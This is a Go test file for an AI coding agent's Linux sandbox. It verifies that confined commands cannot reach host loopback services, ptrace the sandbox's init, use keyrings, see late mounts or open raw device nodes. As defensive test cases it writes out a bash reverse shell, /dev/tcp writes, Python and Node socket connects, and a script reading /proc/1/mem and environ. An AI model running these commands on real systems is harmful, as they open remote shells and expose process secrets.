//go:build linux

package sandbox_test

import (
	"errors"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	"golang.org/x/sys/unix"
)

// hostService is a listener of this machine's, outside every sandbox,
// counting what reaches it: a dev server, a database, a debugger port on
// loopback.
type hostService struct {
	name, port string
	got        atomic.Int64
}

// listenHost starts TCP and UDP services on 127.0.0.1 and, where this
// machine has it, ::1.
func listenHost(t *testing.T) []*hostService {
	t.Helper()
	var out []*hostService
	for _, l := range []struct{ name, network, addr string }{
		{"tcp4", "tcp4", "127.0.0.1:0"}, {"tcp6", "tcp6", "[::1]:0"},
		{"udp4", "udp4", "127.0.0.1:0"}, {"udp6", "udp6", "[::1]:0"},
	} {
		s := &hostService{name: l.name}
		if strings.HasPrefix(l.network, "tcp") {
			ln, err := net.Listen(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { ln.Close() })
			_, s.port, _ = net.SplitHostPort(ln.Addr().String())
			go func() {
				for {
					c, err := ln.Accept()
					if err != nil {
						return
					}
					s.got.Add(1) // a connection is already the door open
					go func() {
						defer c.Close()
						buf := make([]byte, 512)
						for {
							n, err := c.Read(buf)
							s.got.Add(int64(n))
							if err != nil {
								return
							}
						}
					}()
				}
			}()
		} else {
			pc, err := net.ListenPacket(l.network, l.addr)
			if err != nil {
				t.Logf("%s: no listener here (%v)", l.name, err)
				continue
			}
			t.Cleanup(func() { pc.Close() })
			_, s.port, _ = net.SplitHostPort(pc.LocalAddr().String())
			go func() {
				buf := make([]byte, 512)
				for {
					n, _, err := pc.ReadFrom(buf)
					if err != nil {
						return
					}
					s.got.Add(int64(n))
				}
			}()
		}
		out = append(out, s)
	}
	return out
}

// netAttacks reach each host service from a confined command, in the ways
// an agent's command line would: bash's /dev/tcp and /dev/udp, a reverse
// shell, Python and Node sockets.
func netAttacks(s *hostService) map[string]string {
	host := "127.0.0.1"
	if strings.HasSuffix(s.name, "6") {
		host = "::1"
	}
	proto := s.name[:3]
	a := map[string]string{
		"bash /dev/" + proto: fmt.Sprintf(`echo attack > /dev/%s/%s/%s`, proto, host, s.port),
	}
	if proto == "tcp" {
		a["reverse shell"] = fmt.Sprintf(`timeout -s KILL 2 bash -i >& /dev/tcp/%s/%s 0>&1`, host, s.port)
		a["python connect"] = fmt.Sprintf(`python3 -c "import socket;s=socket.create_connection(('%s',%s));s.sendall(b'attack')"`, host, s.port)
		if _, err := exec.LookPath("node"); err == nil {
			a["node connect"] = fmt.Sprintf(`node -e 'const c=require("net").connect(%s,"%s",()=>{c.end("attack")})'`, s.port, host)
		}
	} else {
		a["python sendto"] = fmt.Sprintf(`python3 -c "import socket;socket.socket(socket.AF_INET%s,socket.SOCK_DGRAM).sendto(b'attack',('%s',%s))"`, map[bool]string{true: "6"}[host == "::1"], host, s.port)
	}
	return a
}

// TestNetworkOff (issue 44): with "network": "off" in the person's policy,
// a confined command reaches none of this machine's services on loopback,
// TCP or UDP, IPv4 or IPv6, by any of the usual doors, with namespaces
// (a network namespace of its own) and under Landlock alone (seccomp
// refuses Internet sockets); each attack is first shown to reach the
// service with the network on.
func TestNetworkOff(t *testing.T) {
	needSandbox(t)
	services := listenHost(t)
	if len(services) == 0 {
		t.Fatal("no loopback listener could be made")
	}
	w := newWorld(t)
	policy := filepath.Join(w.home, ".pi", "piagent-policy.json")
	runAll := func(bin string, env []string, s *hostService) map[string]string {
		outs := map[string]string{}
		for name, script := range netAttacks(s) {
			args := []string{"sandbox", "exec", "--", "/bin/bash", "-c", script}
			if bin == leanBin {
				args = args[1:]
			}
			cmd := exec.Command(bin, args...)
			cmd.Dir, cmd.Env = w.proj, env
			out, _ := cmd.CombinedOutput()
			outs[name] = string(out)
		}
		return outs
	}
	settle := func() { time.Sleep(150 * time.Millisecond) }

	// The control: with the network on, every attack reaches its service.
	write(t, policy, `{"version": 1, "network": "on"}`)
	for _, s := range services {
		for name, script := range netAttacks(s) {
			before := s.got.Load()
			cmd := exec.Command(leanBin, "exec", "--", "/bin/bash", "-c", script)
			cmd.Dir, cmd.Env = w.proj, w.env
			out, _ := cmd.CombinedOutput()
			settle()
			if s.got.Load() == before {
				t.Errorf("control, %s %s: nothing reached the service with the network on, so the attack proves nothing\n%s", s.name, name, out)
			}
		}
	}

	write(t, policy, `{"version": 1, "network": "off"}`)
	for _, c := range []struct {
		name, bin string
		env       []string
	}{
		{"namespaces (piagent-sandbox)", leanBin, w.env},
		{"namespaces (piagent sandbox exec)", piagentBin, w.env},
		{"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")},
	} {
		if strings.HasPrefix(c.name, "namespaces") && probed().Namespaces == "" {
			continue // needSandbox failed already in CI
		}
		for _, s := range services {
			before := s.got.Load()
			outs := runAll(c.bin, c.env, s)
			settle()
			if got := s.got.Load() - before; got != 0 {
				t.Errorf("%s: %s was reached (%d bytes or connections) with the network off:\n%v", c.name, s.name, got, outs)
			}
		}
	}

	// Its own loopback works with namespaces (a project's tests may run a
	// server), and the network namespace is really a new one.
	if probed().Namespaces != "" {
		cmd := exec.Command(leanBin, "exec", "--", "python3", "-c",
			"import socket;s=socket.socket();s.bind(('127.0.0.1',0));s.listen();c=socket.create_connection(s.getsockname());c.sendall(b'x');a,_=s.accept();print('own loopback', a.recv(1).decode())")
		cmd.Dir, cmd.Env = w.proj, w.env
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "own loopback x") {
			t.Errorf("the command's own loopback: %v\n%s", err, out)
		}
		mine, err := os.Readlink("/proc/self/ns/net")
		if err != nil {
			t.Fatal(err)
		}
		cmd = exec.Command(leanBin, "exec", "--", "readlink", "/proc/self/ns/net")
		cmd.Dir, cmd.Env = w.proj, w.env
		out, err := cmd.CombinedOutput()
		if err != nil || strings.TrimSpace(string(out)) == mine {
			t.Errorf("the command's network namespace is this one's (%s): %v %s", mine, err, out)
		}
	}
	// vsock reaches the hypervisor's host, and no namespace separates it.
	cmd := exec.Command(leanBin, "exec", "--", "python3", "-c", "import socket;socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM)")
	cmd.Dir, cmd.Env = w.proj, w.env
	if out, err := cmd.CombinedOutput(); err == nil || !strings.Contains(string(out), "Permission denied") {
		var ee *exec.ExitError
		t.Errorf("a vsock socket with the network off: %v (%v) %s", err, errors.As(err, &ee), out)
	}

	// A repository cannot turn it back on.
	must(t, os.MkdirAll(filepath.Join(w.proj, ".pi"), 0o755))
	write(t, filepath.Join(w.proj, ".pi", "piagent-policy.json"), `{"version": 1, "network": "on"}`)
	for _, s := range services[:1] {
		before := s.got.Load()
		outs := runAll(leanBin, w.env, s)
		settle()
		if got := s.got.Load() - before; got != 0 {
			t.Errorf("a repository's \"network\": \"on\" reached %s:\n%v", s.name, outs)
		}
	}
	t.Logf("%d host services (TCP/UDP, IPv4/IPv6 where present) reached by every attack with the network on and by none with it off, with namespaces and under Landlock alone", len(services))
}

// ptraceInit tries, from inside the sandbox, what finding 1 of the
// network review did first: PTRACE_SEIZE of the init (pid 1), and opening
// its memory and environment. It prints one word per door.
const ptraceInit = `import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
r = libc.ptrace(0x4206, 1, None, None)
print("seize:" + ("ok" if r == 0 else os.strerror(ctypes.get_errno())))
for f in ("/proc/1/mem", "/proc/1/environ"):
    try:
        open(f, "rb").read(1)
        print(f + ":ok")
    except OSError as e:
        print(f + ":" + e.strerror)
`

// TestInitOutOfReach: the sandbox's init holds, on its other threads, what
// the command gave up (root's capabilities, for root), so the command must
// not reach it: no ptrace, no /proc/1/mem or environ, as root and as an
// ordinary user. The control, a fault build whose init stays dumpable,
// shows the attack's first step working.
func TestInitOutOfReach(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	script := filepath.Join(w.root, "ptrace.py")
	write(t, script, ptraceInit)
	run := func(bin string, env []string) string {
		cmd := exec.Command(bin, "sandbox", "exec", "--", "python3", script)
		cmd.Dir, cmd.Env = w.proj, env
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Fatalf("%v: %s", err, out)
		}
		return string(out)
	}
	control := run(faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=dumpable"))
	if !strings.Contains(control, "seize:ok") {
		t.Fatalf("control: a dumpable init could not be seized, so the test proves nothing:\n%s", control)
	}
	for _, bin := range []string{piagentBin, leanBin} {
		args := []string{"sandbox", "exec", "--", "python3", script}
		if bin == leanBin {
			args = args[1:]
		}
		cmd := exec.Command(bin, args...)
		cmd.Dir, cmd.Env = w.proj, w.env
		outb, err := cmd.CombinedOutput()
		out := string(outb)
		if err != nil || strings.Contains(out, ":ok") || !strings.Contains(out, "seize:Operation not permitted") {
			t.Errorf("%s: the command reached its init: %v\n%s", filepath.Base(bin), err, out)
		}
	}
}

// TestNetworkOffWithoutSandbox: where no sandbox applies at all (a kernel
// without Landlock, simulated by a fault build), --auto — what the
// extension passes — runs a command unconfined; with "network": "off" it
// must refuse instead, and the host service hears nothing. The control:
// with the network on, the same command runs, unconfined, and reaches it.
func TestNetworkOffWithoutSandbox(t *testing.T) {
	services := listenHost(t)
	w := newWorld(t)
	s := services[0]
	env := append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=no-landlock")
	attack := fmt.Sprintf(`echo attack > /dev/tcp/127.0.0.1/%s`, s.port)
	run := func() (string, error) {
		cmd := exec.Command(faultBin, "sandbox", "exec", "--auto", "--", "/bin/bash", "-c", attack)
		cmd.Dir, cmd.Env = w.proj, env
		out, err := cmd.CombinedOutput()
		time.Sleep(150 * time.Millisecond)
		return string(out), err
	}
	before := s.got.Load()
	if out, err := run(); err != nil || s.got.Load() == before || !strings.Contains(out, "command reader alone") {
		t.Fatalf("control: with the network on and no sandbox, --auto should run the command unconfined: %v\n%s", err, out)
	}
	write(t, filepath.Join(w.home, ".pi", "piagent-policy.json"), `{"version": 1, "network": "off"}`)
	before = s.got.Load()
	out, err := run()
	if err == nil || s.got.Load() != before {
		t.Errorf("network off, no sandbox: ran (%v), %d reached\n%s", err, s.got.Load()-before, out)
	}
	if !strings.Contains(out, `"network": "off"`) || !strings.Contains(out, "nothing was run") {
		t.Errorf("the refusal does not say why:\n%s", out)
	}
	cmd := exec.Command(faultBin, "sandbox", "status")
	cmd.Dir, cmd.Env = w.proj, env
	st, _ := cmd.CombinedOutput()
	if !strings.Contains(string(st), "network: off in your policy, and nothing here can apply it") {
		t.Errorf("sandbox status does not say the network cannot be taken away:\n%s", st)
	}
}

// TestDatagramPairRefused: a Unix datagram pair could sendto, or connect
// again to, a named datagram socket outside (journald, /dev/log,
// systemd's notify socket); the filter refuses the pair, in every profile.
// The control: unconfined, the same line reaches the test's socket.
func TestDatagramPairRefused(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	sock := filepath.Join(w.root, "d.sock")
	conn, err := net.ListenUnixgram("unixgram", &net.UnixAddr{Name: sock, Net: "unixgram"})
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	os.Chmod(sock, 0o777)
	var got atomic.Int64
	go func() {
		buf := make([]byte, 64)
		for {
			n, _, err := conn.ReadFrom(buf)
			if err != nil {
				return
			}
			got.Add(int64(n))
		}
	}()
	line := fmt.Sprintf(`import socket;a,b=socket.socketpair(socket.AF_UNIX,socket.SOCK_DGRAM);a.sendto(b"attack",%q)`, sock)
	if out, err := exec.Command("python3", "-c", line).CombinedOutput(); err != nil {
		t.Fatalf("control: %v %s", err, out)
	}
	time.Sleep(100 * time.Millisecond)
	if got.Load() == 0 {
		t.Fatal("control: the unconfined line did not reach the socket, so the test proves nothing")
	}
	before := got.Load()
	for _, c := range []struct {
		name string
		bin  string
		env  []string
	}{{"namespaces", leanBin, w.env}, {"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")}} {
		args := []string{"sandbox", "exec", "--", "python3", "-c", line}
		if c.bin == leanBin {
			args = args[1:]
		}
		cmd := exec.Command(c.bin, args...)
		cmd.Dir, cmd.Env = w.proj, c.env
		out, err := cmd.CombinedOutput()
		time.Sleep(100 * time.Millisecond)
		if err == nil || got.Load() != before || !strings.Contains(string(out), "Permission denied") {
			t.Errorf("%s: a datagram pair reached %s: %v\n%s", c.name, sock, err, out)
		}
	}
}

// TestKeyringsAndOtherProcesses (the second review): the kernel's keyrings
// are the host's, so keyctl, add_key and request_key are refused; and
// where no PID namespace hides them (Landlock alone), another process of
// the person's — Pi — is out of reach of prlimit (a core-file limit raised
// dumps its memory), setpriority and sched_setaffinity, which Landlock does
// not govern. Each attack works unconfined (the control), as root and as
// an ordinary user.
func TestKeyringsAndOtherProcesses(t *testing.T) {
	needSandbox(t)
	w := newWorld(t)
	victim := exec.Command("sleep", "60")
	if err := victim.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { victim.Process.Kill(); victim.Wait() }()
	pid := fmt.Sprint(victim.Process.Pid)
	attacks := [][]string{{"keyctl"}, {"add_key"}, {"prlimit", pid}, {"setpriority", pid}, {"sched_setaffinity", pid}}
	for _, a := range attacks {
		if out, err := exec.Command(attackBin, a...).CombinedOutput(); err != nil {
			t.Fatalf("control: %v works unconfined? %v %s", a, err, out)
		}
	}
	for _, c := range []struct {
		name, bin string
		env       []string
	}{
		{"namespaces", piagentBin, w.env},
		{"Landlock alone", faultBin, append(append([]string{}, w.env...), "PIAGENT_SANDBOX_FAULT=mount")},
	} {
		if c.name == "namespaces" && probed().Namespaces == "" {
			continue
		}
		for _, a := range attacks {
			cmd := exec.Command(c.bin, append([]string{"sandbox", "exec", "--", attackBin}, a...)...)
			cmd.Dir, cmd.Env = w.proj, c.env
			out, err := cmd.CombinedOutput()
			if err == nil || strings.Contains(string(out), "worked") {
				t.Errorf("%s: %v worked under the sandbox:\n%s", c.name, a, out)
			}
		}
		// the command's own limits stay its own
		cmd := exec.Command(c.bin, "sandbox", "exec", "--", "/bin/bash", "-c", "ulimit -c 0 && ulimit -n 256 && echo own-limits")
		cmd.Dir, cmd.Env = w.proj, c.env
		if out, err := cmd.CombinedOutput(); err != nil || !strings.Contains(string(out), "own-limits") {
			t.Errorf("%s: the command's own limits: %v %s", c.name, err, out)
		}
	}
}

// TestLateMountStaysOutside (the second review): a mount the machine makes
// while a command runs (a login's /run/user/UID, a USB stick) must not
// arrive in the sandbox, where it would be writable past the read-only
// setting. Root only: making a shared mount point and a mount in the
// test's own namespace needs it; the sandbox's code is the same for both.
// The control is a plain mount namespace made slave, as the sandbox was.
func TestLateMountStaysOutside(t *testing.T) {
	needNamespaces(t)
	if os.Getuid() != 0 {
		t.Skip("making a shared mount point needs root")
	}
	w := newWorld(t)
	d := filepath.Join(w.root, "media")
	must(t, os.MkdirAll(filepath.Join(d, "usb"), 0o755))
	mount := func(args ...string) {
		t.Helper()
		if out, err := exec.Command("mount", args...).CombinedOutput(); err != nil {
			t.Fatalf("mount %v: %v %s", args, err, out)
		}
	}
	mount("--bind", d, d)
	defer exec.Command("umount", "-R", d).Run()
	mount("--make-shared", d)
	// Each watcher waits for the stick to be plugged in, then says what it sees.
	watch := `for i in $(seq 100); do [ -e ` + d + `/plugged ] && break; sleep 0.05; done; sleep 0.3; ls ` + d + `/usb`
	run := func(argv ...string) *exec.Cmd {
		cmd := exec.Command(argv[0], argv[1:]...)
		cmd.Dir, cmd.Env = w.proj, w.env
		return cmd
	}
	sandboxed := run(leanBin, "exec", "--", "/bin/bash", "-c", watch)
	control := run("unshare", "-m", "--propagation", "slave", "/bin/bash", "-c", watch)
	var sOut, cOut strings.Builder
	sandboxed.Stdout, sandboxed.Stderr, control.Stdout, control.Stderr = &sOut, &sOut, &cOut, &cOut
	must(t, sandboxed.Start())
	must(t, control.Start())
	time.Sleep(500 * time.Millisecond)
	mount("-t", "tmpfs", "tmpfs", filepath.Join(d, "usb"))
	write(t, filepath.Join(d, "usb", "secret-stick-file"), "x")
	write(t, filepath.Join(d, "plugged"), "")
	sandboxed.Wait()
	control.Wait()
	if !strings.Contains(cOut.String(), "secret-stick-file") {
		t.Fatalf("control: a slave namespace did not see the late mount, so the test shows nothing:\n%s", cOut.String())
	}
	if strings.Contains(sOut.String(), "secret-stick-file") {
		t.Errorf("a mount made after the command started arrived in its sandbox:\n%s", sOut.String())
	}
}

// TestDeviceNodesClosed (the second review): root's command could read a
// raw disk through its device node, and with it the secrets the sandbox
// hides. Every mount is nodev but for /dev/null, zero, full, random and
// urandom, which still work. The attack, root only (an ordinary user can
// make no device node, and opens none of root's): a node for the memory
// device /dev/zero stands for a disk, outside the project; unconfined it
// reads (the control), confined it does not open.
func TestDeviceNodesClosed(t *testing.T) {
	needNamespaces(t)
	w := newWorld(t)
	cmd := exec.Command(leanBin, "exec", "--", "/bin/bash", "-c",
		`echo x > /dev/null && head -c 4 /dev/urandom | wc -c && head -c 2 /dev/zero | wc -c && echo x > /dev/full; echo full=$?`)
	cmd.Dir, cmd.Env = w.proj, w.env
	out, err := cmd.CombinedOutput()
	if err != nil || !strings.Contains(string(out), "4\n2\n") || !strings.Contains(string(out), "full=1") {
		t.Errorf("the common devices under the sandbox: %v\n%s", err, out)
	}
	if os.Getuid() != 0 {
		return
	}
	node := filepath.Join(w.root, "disk")
	if err := unix.Mknod(node, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 5))); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("head", "-c", "1", node).CombinedOutput(); err != nil {
		t.Fatalf("control: the node does not read unconfined: %v %s", err, out)
	}
	for _, bin := range []string{leanBin, faultBin} {
		args := []string{"sandbox", "exec", "--", "head", "-c", "1", node}
		if bin == leanBin {
			args = args[1:]
		}
		cmd := exec.Command(bin, args...)
		cmd.Dir, cmd.Env = w.proj, w.env
		out, err := cmd.CombinedOutput()
		if err == nil || !strings.Contains(string(out), "Permission denied") {
			t.Errorf("%s: a device node outside the common ones opened under the sandbox: %v\n%q", filepath.Base(bin), err, out)
		}
	}
}
